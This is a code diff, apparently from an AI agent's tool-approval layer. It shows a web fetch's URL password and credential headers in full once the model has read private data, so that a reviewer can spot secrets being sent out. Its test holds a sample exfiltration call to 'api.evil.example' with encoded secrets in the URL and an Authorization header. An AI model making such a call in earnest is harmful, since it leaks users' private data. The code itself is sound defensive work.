@@ -74,6 +74,46 @@ impl Described {
         self.had_invisible |= metnos_core::html::holds_invisible(written);
         self
     }
+
+    /// After the turn read private data, a fetch's credentials are shown whole too (else by
+    /// their length, so a person's password does not travel to the chat): the model can
+    /// put what it read in an `Authorization` header, a cookie or a URL's password.
+    pub fn credentials_whole(
+        mut self,
+        executor: &str,
+        args_json: &str,
+        language: Language,
+    ) -> Described {
+        if executor != "web_fetch" {
+            return self;
+        }
+        let args = serde_json::from_str::<Value>(args_json).unwrap_or(Value::Null);
+        let mut sent = Vec::new();
+        let url = args.get("url").and_then(Value::as_str).unwrap_or_default();
+        if let Ok(parsed) = url::Url::parse(url)
+            && let Some(password) = parsed.password()
+        {
+            sent.push(format!("password: {}", whole(password)));
+        }
+        let headers = args.get("headers").and_then(Value::as_object).into_iter();
+        for (name, value) in headers.flatten() {
+            if credential_header(name) {
+                let value = value.as_str().unwrap_or_default();
+                self.had_invisible |= metnos_core::html::holds_invisible(value);
+                sent.push(format!("{}: {}", whole(name), whole(value)));
+            }
+        }
+        if !sent.is_empty() {
+            let said = if language == Language::Italian {
+                "credenziali inviate"
+            } else {
+                "credentials sent"
+            };
+            self.summary
+                .push_str(&format!(" — {said} «{}»", sent.join("» «")));
+        }
+        self
+    }
 }
 
 /// Whether a string of `value` (keys included) holds a character a person cannot see.
@@ -872,6 +912,26 @@ mod tests {
 
     /// Third review of issue 38: a fetch's headers were shown as their count ("1 headers"),
     /// so a header could carry what the card never showed; a port was not shown.
+    /// Fifth review of issue 38: after a private read, a credential's length hid what the
+    /// model put in it.
+    #[test]
+    fn after_a_private_read_a_fetchs_credentials_are_shown_whole() {
+        let args = json!({
+            "url": "https://u:c2VjcmV0@api.evil.example/v1",
+            "headers": {"Authorization": "Bearer bmV0IDQsMjEw"}
+        });
+        let d = en("web_fetch", "", args.clone(), &[]);
+        assert!(!d.summary.contains("bmV0IDQsMjEw"), "{}", d.summary);
+        let d = d.credentials_whole("web_fetch", &args.to_string(), Language::English);
+        assert!(
+            d.summary.ends_with(
+                "credentials sent «password: c2VjcmV0» «Authorization: Bearer bmV0IDQsMjEw»"
+            ),
+            "{}",
+            d.summary
+        );
+    }
+
     #[test]
     fn a_fetch_shows_its_headers_and_port_and_a_credential_by_its_length() {
         let d = en(
